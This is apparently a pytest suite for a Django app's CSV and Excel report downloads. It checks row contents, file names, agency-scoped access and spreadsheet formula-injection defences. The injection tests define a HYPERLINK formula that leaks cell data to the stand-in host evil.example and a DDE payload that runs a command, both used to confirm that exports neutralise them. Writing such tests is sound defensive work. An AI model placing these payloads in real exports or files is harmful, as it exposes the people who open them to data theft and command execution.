"""CSV and Excel downloads: header and rows as on the page, the XLSX holds the same rows as the
CSV, file names carry the mall and the period, and agency staff download only their agency."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from satupintu.accounts.models import Role
from satupintu.accounts.tests.factories import user_with_role
from satupintu.reports import tables
from satupintu.reports.tests.report_fixtures import Scene, build_scene

pytestmark = pytest.mark.django_db


@pytest.fixture
def scene() -> Scene:
    return build_scene()


def _params(scene: Scene, fmt: str) -> dict[str, str]:
    return {
        "from": scene.monday.isoformat(),
        "to": scene.mall.today().isoformat(),
        "format": fmt,
    }


def _csv_rows(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _xlsx_rows(response: Any) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _supervisor_client(scene: Scene) -> Client:
    client = Client()
    client.force_login(user_with_role(Role.SUPERVISOR, mall=scene.mall))
    return client


def test_channel_table_as_csv_has_the_header_and_the_hand_computed_rows(scene: Scene) -> None:
    client = _supervisor_client(scene)
    url = reverse("reports:export", args=[scene.mall.slug, "channels"])
    response = client.get(url, _params(scene, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    period = f"{scene.monday.isoformat()}_{scene.mall.today().isoformat()}"
    assert (
        f'filename="satupintu-{scene.mall.slug}-channels-{period}.csv"'
        in response["Content-Disposition"]
    )
    rows = _csv_rows(response)
    assert len(rows[0]) == 3
    # Four walk-in visits and one drive-thru (transfers count once): 80 % and 20 %.
    assert [r[1:] for r in rows[1:]] == [["4", "80.0"], ["1", "20.0"]]


def test_summary_csv_carries_the_kpis(scene: Scene) -> None:
    response = _supervisor_client(scene).get(
        reverse("reports:export", args=[scene.mall.slug, "summary"]), _params(scene, "csv")
    )
    values = [r[1] for r in _csv_rows(response)[1:]]
    # tickets, served, no-shows, abandoned, transferred, mean/median/p90 wait (scene's figures)
    assert values[:8] == ["5", "2", "1", "1", "1", "16.25", "10.0", "30.0"]


@pytest.mark.parametrize("table", sorted(tables.BUILDERS))
def test_every_table_opens_as_xlsx_with_the_same_rows_as_the_csv(scene: Scene, table: str) -> None:
    client = _supervisor_client(scene)
    url = reverse("reports:export", args=[scene.mall.slug, table])
    as_csv = client.get(url, _params(scene, "csv"))
    as_xlsx = client.get(url, _params(scene, "xlsx"))
    assert as_csv.status_code == as_xlsx.status_code == 200
    assert as_xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert ".xlsx" in as_xlsx["Content-Disposition"]
    csv_rows = _csv_rows(as_csv)
    xlsx_rows = _xlsx_rows(as_xlsx)
    assert len(csv_rows) >= 2 or table in ("officers", "overdue")
    assert xlsx_rows[0] == csv_rows[0]
    assert len(xlsx_rows) == len(csv_rows)
    for from_xlsx, from_csv in zip(xlsx_rows[1:], csv_rows[1:], strict=True):
        assert [_norm(v) for v in from_xlsx] == [_norm(v) for v in from_csv]


def _norm(value: str) -> str:
    # Excel stores 4.0 as 4: compare numbers as numbers.
    try:
        return repr(float(value))
    except ValueError:
        return value


def test_unknown_table_or_format_is_404(scene: Scene) -> None:
    client = _supervisor_client(scene)
    assert client.get(reverse("reports:export", args=[scene.mall.slug, "nope"])).status_code == 404
    assert (
        client.get(
            reverse("reports:export", args=[scene.mall.slug, "summary"]), {"format": "pdf"}
        ).status_code
        == 404
    )


@pytest.mark.parametrize("table", sorted(tables.BUILDERS))
def test_agency_staff_export_only_their_agency(scene: Scene, table: str) -> None:
    client = Client()
    client.force_login(
        user_with_role(Role.BACK_OFFICE_OFFICER, mall=scene.mall, agency=scene.agency1)
    )
    own = reverse("reports:agency-export", args=[scene.mall.slug, scene.agency1.pk, table])
    other = reverse("reports:agency-export", args=[scene.mall.slug, scene.agency2.pk, table])
    mall_wide = reverse("reports:export", args=[scene.mall.slug, table])
    for fmt in ("csv", "xlsx"):
        assert client.get(other, _params(scene, fmt)).status_code == 404
        # The mall-wide URL sends them to their agency's download.
        redirected = client.get(mall_wide, _params(scene, fmt))
        assert redirected.status_code == 302
        assert redirected["Location"].startswith(own)
        response = client.get(own, _params(scene, fmt))
        if table in tables.MALL_ONLY:
            assert response.status_code == 404
            continue
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig") if fmt == "csv" else repr(_xlsx_rows(response))
        assert scene.agency2.name not in text
        assert scene.s3.name not in text
        assert scene.agency1.slug in response["Content-Disposition"]


def test_agency_summary_counts_only_its_own_visits(scene: Scene) -> None:
    client = Client()
    client.force_login(user_with_role(Role.AGENCY_ADMIN, mall=scene.mall, agency=scene.agency2))
    response = client.get(
        reverse("reports:agency-export", args=[scene.mall.slug, scene.agency2.pk, "summary"]),
        _params(scene, "csv"),
    )
    rows = _csv_rows(response)
    assert rows[1][1] == "1"  # one ticket (T4, drive-thru at agency 2)


def test_national_export_for_a_viewer(scene: Scene) -> None:
    client = Client()
    client.force_login(user_with_role(Role.VIEWER, mall=scene.mall))
    response = client.get(reverse("reports:national-export"), _params(scene, "xlsx"))
    assert response.status_code == 200
    rows = _xlsx_rows(response)
    assert rows[1][0] == scene.mall.name
    assert rows[1][1] == "1"  # rank
    assert rows[1][2] == "5"  # tickets


# --- formula injection ----------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _xlsx_cells(response: Any) -> list[Any]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_that_starts_like_a_formula_is_exported_as_text(scene: Scene, fmt: str) -> None:
    scene.counter.name = HYPERLINK
    scene.counter.save()
    response = _supervisor_client(scene).get(
        reverse("reports:export", args=[scene.mall.slug, "counters"]), _params(scene, fmt)
    )
    assert response.status_code == 200
    if fmt == "csv":
        names = [row[0] for row in _csv_rows(response)]
        assert "'" + HYPERLINK in names
        assert HYPERLINK not in names
    else:
        cells = [c for c in _xlsx_cells(response) if "HYPERLINK" in str(c.value)]
        assert [(c.value, c.data_type) for c in cells] == [("'" + HYPERLINK, "s")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_anonymous_transparency_export_is_safe_too(scene: Scene, fmt: str) -> None:
    scene.agency1.name = DDE
    scene.agency1.save()
    response = Client().get(
        reverse("reports:public-export", args=[scene.mall.slug]), {"preset": "12m", "format": fmt}
    )
    assert response.status_code == 200
    if fmt == "csv":
        cells = [cell for row in _csv_rows(response) for cell in row]
    else:
        assert all(c.data_type != "f" for c in _xlsx_cells(response))
        cells = [c.value for c in _xlsx_cells(response)]
    assert "'" + DDE in cells
    assert DDE not in cells


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    from satupintu.reports.exports import spreadsheet_text, table_csv, table_xlsx

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(f"{start}1+2") == f"'{start}1+2"
    assert spreadsheet_text("Loket 1 - Dukcapil") == "Loket 1 - Dukcapil"
    table = tables.Table(
        slug="t",
        title="Test",
        columns=[tables.Column("name", "Nama"), tables.Column("delta", "Selisih", tables.INT)],
        rows=[["-Loket", -5], ["+62 812", -2.5], ["Loket 2", None]],
    )
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert rows == [
        [("'-Loket", "s"), (-5, "n")],
        [("'+62 812", "s"), (-2.5, "n")],
        [("Loket 2", "s"), (None, "n")],
    ]
    text = table_csv(table).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1:] == [
        ["'-Loket", "-5"],
        ["'+62 812", "-2.5"],
        ["Loket 2", ""],
    ]
